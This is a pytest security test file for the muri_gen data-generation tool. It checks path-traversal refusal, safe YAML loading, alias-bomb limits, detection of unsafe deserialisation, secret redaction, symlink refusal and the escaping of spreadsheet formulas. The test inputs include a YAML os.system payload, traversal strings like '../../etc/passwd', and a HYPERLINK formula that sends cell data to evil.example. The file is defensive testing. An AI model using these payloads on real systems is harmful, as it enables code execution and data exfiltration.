"""Security: names from recipes and data never escape the run folder, recipes cannot run code,
nothing unpickles untrusted data, secrets stay out of every file a run writes, servers stay local."""
import ast
import csv
import os
import re
import socket
import textwrap
from pathlib import Path

import pytest
import yaml

from muri_gen import languages
from muri_gen.export.schema import language_config
from muri_gen.recipe import RecipeError, load_recipe
from muri_gen.runner import run_recipe
from muri_gen.runner.layout import RunDir, safe_part
from muri_gen.yaml_lines import LineLoader
from tests.export_fakerun import write_run
from tests.llm_fault_stub import FaultStub

ROOT = Path(__file__).resolve().parents[1]
TRAVERSALS = ["..", "../x", "../../etc/passwd", "a/b", "/etc", "a\\..\\b", ".hidden", "", "a\x00b", "spa/../../x",
              "x" * 200, "ｓｐａ", "spa\n"]


@pytest.mark.parametrize("name", TRAVERSALS)
def test_names_that_could_escape_a_folder_are_refused(name):
    with pytest.raises(ValueError):
        safe_part(name)
    assert not languages.SAFE_CODE.match(name)
    assert language_config(name) is None
    with pytest.raises(ValueError):
        RunDir("/tmp/run").state_dir(name)


def test_real_codes_and_ids_still_name_folders():
    for name in ("spa", "cmn_Hans", "translate_document", "dedup-2", "v1.2"):
        assert safe_part(name) == name
    assert language_config("spa") == "spa" and language_config("zho_Hans") == "zho_Hans"


def write(tmp_path, text, name="recipe.yaml"):
    path = tmp_path / name
    path.write_text(textwrap.dedent(text))
    return path


def test_recipe_language_codes_and_stage_ids_with_traversal_are_refused_at_validation(tmp_path):
    base = textwrap.dedent(f"""\
        name: t
        input: {{path: {tmp_path / 'in.jsonl'}}}
        output: {{dir: {tmp_path / 'out'}}}
        """)
    with pytest.raises(RecipeError, match="not a language code"):
        load_recipe(write(tmp_path, base + "languages: ['../../etc']\nstages:\n  - {stage: normalize}\n"))
    with pytest.raises(RecipeError, match=r"line 5: stages.0.id: .*names folders"):
        load_recipe(write(tmp_path, base + "stages:\n  - {stage: dedup, id: ../../state}\n"))
    assert not (tmp_path / "out").exists()


def test_recipes_load_with_the_safe_loader_only(tmp_path):
    assert issubclass(LineLoader, yaml.SafeLoader)
    marker = tmp_path / "pwned"
    payload = f"""\
        name: !!python/object/apply:os.system ["touch {marker}"]
        input: {{path: x.jsonl}}
        output: {{dir: out}}
        """
    with pytest.raises(RecipeError, match="not valid YAML"):
        load_recipe(write(tmp_path, payload))
    with pytest.raises(RecipeError):
        load_recipe(write(tmp_path, "name: t\n", "ok.yaml"), ["name=!!python/object/apply:os.system ['touch " + str(marker) + "']"])
    assert not marker.exists()


def alias_bomb(levels: int) -> str:
    """A few hundred bytes whose aliases expand to 9**levels values (the "billion laughs")."""
    names = [f"l{i}" for i in range(levels + 1)]
    lines = [f"{names[0]}: &{names[0]} [x, x, x, x, x, x, x, x, x]"]
    lines += [f"{names[i]}: &{names[i]} [" + ", ".join([f"*{names[i - 1]}"] * 9) + "]" for i in range(1, levels + 1)]
    return "name: t\n" + "\n".join(lines) + "\n"


def test_a_recipe_whose_aliases_expand_without_bound_is_refused_at_once(tmp_path):
    bomb = write(tmp_path, alias_bomb(8))
    assert bomb.stat().st_size < 500
    with pytest.raises(RecipeError, match=r"line \d+: its aliases expand to more than 100000 values"):
        load_recipe(bomb)  # without the bound: over a minute and gigabytes
    with pytest.raises(RecipeError, match="an alias refers to itself"):
        load_recipe(write(tmp_path, "name: &a [*a]\n", "self.yaml"))


def test_every_yaml_loader_of_the_package_is_the_bounded_one():
    offenders = {str(p.relative_to(ROOT)) for p in (ROOT / "muri_gen").rglob("*.py")
                 if re.search(r"yaml\.(safe_)?load\(", p.read_text(encoding="utf-8"))}
    assert offenders == set()


def test_a_key_given_twice_is_refused_with_both_lines(tmp_path):
    recipe = write(tmp_path, f"""\
        name: t
        input: {{path: {tmp_path / 'in.jsonl'}}}
        output: {{dir: {tmp_path / 'out'}}}
        stages:
          - {{stage: normalize}}
        output: {{dir: /somewhere/else}}
        """)
    with pytest.raises(RecipeError, match=r"line 6: key 'output' is given twice \(first on line 3\)"):
        load_recipe(recipe)


def test_a_recipe_that_is_not_utf8_says_so_with_an_encoding_hint(tmp_path):
    recipe = tmp_path / "wide.yaml"
    recipe.write_bytes("name: t\n".encode("utf-16"))
    with pytest.raises(RecipeError, match=r"not UTF-8 text \(byte 0\); it looks UTF-16-encoded"):
        load_recipe(recipe)


# a call that deserialises with pickle (or could): flagged wherever it appears in the package
UNSAFE_CALLS = {"pickle.load", "pickle.loads", "cloudpickle.load", "cloudpickle.loads", "dill.load", "dill.loads",
                "joblib.load", "marshal.load", "marshal.loads", "shelve.open", "yaml.unsafe_load", "yaml.full_load",
                "pd.read_pickle", "pandas.read_pickle"}


def unsafe_calls(source: str) -> list[str]:
    found = []
    for node in ast.walk(ast.parse(source)):
        if not isinstance(node, ast.Call):
            continue
        name = ast.unparse(node.func)
        keywords = {k.arg: ast.unparse(k.value) for k in node.keywords}
        if name in UNSAFE_CALLS:
            found.append(name)
        elif name == "yaml.load" and not re.search(r"Safe|LineLoader", keywords.get("Loader", ast.unparse(node.args[1]) if len(node.args) > 1 else "")):
            found.append("yaml.load without a safe loader")
        elif name.endswith("torch.load") and keywords.get("weights_only") != "True":
            found.append("torch.load without weights_only=True")
        elif name.endswith(("np.load", "numpy.load")) and keywords.get("allow_pickle") == "True":
            found.append("np.load(allow_pickle=True)")
        elif keywords.get("trust_remote_code") == "True":
            found.append(f"{name}(trust_remote_code=True)")
    return found


def test_the_scanner_catches_what_it_looks_for():
    assert unsafe_calls("import pickle\npickle.loads(b'')\nyaml.load(s)\ntorch.load(p)\nnp.load(p, allow_pickle=True)\n"
                        "AutoModel.from_pretrained(p, trust_remote_code=True)") == [
        "pickle.loads", "yaml.load without a safe loader", "torch.load without weights_only=True",
        "np.load(allow_pickle=True)", "AutoModel.from_pretrained(trust_remote_code=True)"]
    assert unsafe_calls("yaml.load(s, Loader=LineLoader)\ntorch.load(p, weights_only=True)") == []


def test_nothing_in_the_package_unpickles_or_runs_untrusted_data():
    offenders = {str(path.relative_to(ROOT)): calls for path in sorted((ROOT / "muri_gen").rglob("*.py"))
                 if (calls := unsafe_calls(path.read_text(encoding="utf-8")))}
    assert offenders == {}


def test_a_secret_in_the_environment_never_reaches_the_run_folder(tmp_path, monkeypatch, udhr_rows, write_jsonl, caplog):
    secret = "sk-muri-test-" + "7f3a" * 8
    monkeypatch.setenv("MURI_TEST_API_KEY", secret)
    monkeypatch.setenv("HF_TOKEN", "hf_" + secret)
    caplog.set_level("DEBUG")
    recipe = write(tmp_path, f"""\
        name: secrets
        input: {{path: {write_jsonl(udhr_rows[:20])}, language_field: language}}
        output: {{dir: {tmp_path / 'out'}}}
        backends:
          lid: {{kind: lid, type: fasttext}}
          llm: {{kind: llm, type: openai, base_url: 'http://127.0.0.1:9/v1', model: m, api_key_env: MURI_TEST_API_KEY}}
        stages:
          - {{stage: normalize}}
          - {{stage: language_id, backend: lid}}
        sinks:
          - {{sink: filtered_records}}
          - {{sink: report}}
        """)
    resolved = load_recipe(recipe)
    assert "MURI_TEST_API_KEY" in resolved.to_yaml() and secret not in resolved.to_yaml()
    run_recipe(resolved)
    written = [p for p in (tmp_path / "out").rglob("*") if p.is_file()]
    assert any(p.name == "recipe.yaml" for p in written)
    assert [p for p in written if secret.encode() in p.read_bytes()] == []
    assert secret not in caplog.text
    # a key written into the recipe itself is refused: there is no field to hold it
    with pytest.raises(RecipeError, match="api_key"):
        load_recipe(recipe, [f"backends.llm.api_key={secret}"])


def non_loopback_address() -> str | None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))  # no packet is sent: this only picks the outgoing interface
            address = probe.getsockname()[0]
        except OSError:
            return None
    return None if address.startswith("127.") else address


@pytest.mark.slow
def test_the_embedded_llm_server_listens_on_loopback_only():
    from muri_gen.backends.llm import xllamacpp

    address = non_loopback_address()
    if address is None:
        pytest.skip("this machine has no non-loopback address to try")
    backend = xllamacpp.XLlamaCppLLM(xllamacpp.XLlamaCppConfig(parallel=1, context_per_slot=256))
    backend.setup()
    try:
        host, port = re.match(r"https?://([^:/]+):(\d+)", backend.base_url).groups()
        assert host == "127.0.0.1"
        socket.create_connection(("127.0.0.1", int(port)), timeout=5).close()
        with pytest.raises(OSError):
            socket.create_connection((address, int(port)), timeout=5).close()
    finally:
        backend.teardown()


# -- hostile values in what muri-gen writes ------------------------------------------------------

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
            "'=already quoted"]


def test_eval_sheets_never_hold_a_cell_a_spreadsheet_would_run(tmp_path):
    from muri_gen.report.evaluation import export_sheets, read_ratings

    rows = [{"id": value, "language": "spa", "text": value, "instruction": value} for value in FORMULAS]
    run = write_run(tmp_path / "run", rows)
    sheet = next(p for p in export_sheets(run, tmp_path / "sheets", per_lang=50) if p.suffix == ".csv")
    with open(sheet, encoding="utf-8", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    assert sum(c.startswith("'") for c in cells) == 3 * len(FORMULAS)  # id, instruction, output of each
    # a rater fills it in and the ids read back as the run's own
    with open(sheet, encoding="utf-8", newline="") as fh:
        filled = [{**row, "alignment": "4"} for row in csv.DictReader(fh)]
    with open(sheet, "w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, list(filled[0]))
        writer.writeheader()
        writer.writerows(filled)
    ratings, _ = read_ratings([sheet], set(FORMULAS))
    assert sorted(r["id"] for r in ratings) == sorted(FORMULAS)
    form = (sheet.with_suffix(".html")).read_text(encoding="utf-8")
    assert "if (/^[=+\\-@\\t\\r']/.test(v)) v = \"'\" + v;" in form  # the form's own CSV guards them too


def test_credentials_never_reach_a_log_the_saved_recipe_errored_records_or_the_report(tmp_path, write_jsonl, udhr_rows):
    from tests.test_cli_console import muri_gen

    url_password, key = "pw-in-url-51d0c", "echo-me-" + "5eb1" * 8
    english = [r for r in udhr_rows if r["id"].startswith("udhr-eng-")][:4]
    corpus = write_jsonl([{"id": r["id"], "text": r["text"]} for r in english])
    with FaultStub() as stub:
        def run(out, base_url):
            recipe = write(tmp_path, f"""\
                name: creds
                input: {{path: {corpus}, fields: {{text_en: text}}}}
                output: {{dir: {tmp_path / out}}}
                backends:
                  llm: {{kind: llm, type: openai, model: stub, max_retries: 0, api_key_env: MURI_ECHO,
                         base_url: '{base_url}',
                         launch_env: {{HF_TOKEN: hf_launchsecret0123456789}}}}
                stages:
                  - {{stage: reverse_instruction, llm: llm, max_tokens: 16, n: 1}}
                sinks:
                  - {{sink: report}}
                """, f"{out}.yaml")
            return muri_gen("--verbose", "run", recipe, env={"MURI_ECHO": key})

        fine = run("fine", stub.base_url.replace("://", f"://alice:{url_password}@"))
        stub.faults = ["echo"] * 4  # now the server refuses the key and quotes it back
        echoed = run("echoed", stub.base_url)
    assert fine.returncode == 0, fine.stderr[-2000:]
    assert "HTTP Request: POST http://<redacted>@127.0.0.1" in fine.stderr  # httpx's own log line, redacted
    assert echoed.returncode == 3, echoed.stderr[-2000:]
    assert "invalid credentials: Bearer <redacted>" in (tmp_path / "echoed" / "errored" / "seg-1-shard-00000.jsonl").read_text()
    assert re.search(r"4 of 4 records errored .* run the same command with --retry-errored", echoed.stderr.splitlines()[-1])
    written = [p for out in ("fine", "echoed") for p in (tmp_path / out).rglob("*") if p.is_file()]
    assert {"recipe.yaml", "run.log", "report.html"} <= {p.name for p in written}
    for secret in (url_password, key, "hf_launchsecret0123456789"):
        assert secret not in fine.stderr + fine.stdout + echoed.stderr + echoed.stdout
        assert [p for p in written if secret.encode() in p.read_bytes()] == []


def test_a_symbolic_link_in_the_output_folder_is_never_written_through(tmp_path, write_jsonl, udhr_rows):
    from muri_gen.runner import RunLock
    from muri_gen.runner.layout import LinkInOutput, write_atomic

    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    out = tmp_path / "out"
    out.mkdir()
    (out / "run.lock").symlink_to(victim)
    recipe = write(tmp_path, f"""\
        name: links
        input: {{path: {write_jsonl(udhr_rows[:5])}}}
        output: {{dir: {out}}}
        stages:
          - {{stage: normalize}}
        """)
    with pytest.raises(LinkInOutput, match="run.lock"):
        run_recipe(load_recipe(recipe))
    with pytest.raises(LinkInOutput):
        with RunLock(RunDir(out)):
            pass
    (out / "run.lock").unlink()
    (out / f".stats.json.tmp-{os.getpid()}").symlink_to(victim)
    with pytest.raises(LinkInOutput):
        write_atomic(out / "stats.json", b"{}")
    assert victim.read_text() == "precious"


def test_a_symbolic_link_as_run_log_is_refused_by_the_command(tmp_path, write_jsonl, udhr_rows):
    from tests.test_cli_console import muri_gen

    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "run.log").symlink_to(victim)
    recipe = write(tmp_path, f"""\
        name: links
        input: {{path: {write_jsonl(udhr_rows[:5])}}}
        output: {{dir: {tmp_path / 'out'}}}
        stages:
          - {{stage: normalize}}
        """)
    result = muri_gen("run", recipe)
    assert result.returncode == 1 and victim.read_text() == "precious"
    assert result.stderr.strip().splitlines()[-1] == (
        f"error: {tmp_path / 'out' / 'run.log'}: a symbolic link; muri-gen never writes through links in an "
        "output folder: remove it")


@pytest.mark.parametrize("repo_id", ["../../evil", "org/../x", "a/b/c", "org/" + "x" * 97, "org/name with space"])
def test_publish_refuses_a_repo_id_the_hub_would_not_accept_even_in_a_dry_run(tmp_path, repo_id):
    from typer.testing import CliRunner

    from muri_gen.cli import app

    (tmp_path / "dataset").mkdir()
    result = CliRunner().invoke(app, ["publish", str(tmp_path), "--repo-id", repo_id, "--dry-run"])
    assert result.exit_code == 2 and f"--repo-id {repo_id!r}: Repo id must" in result.output
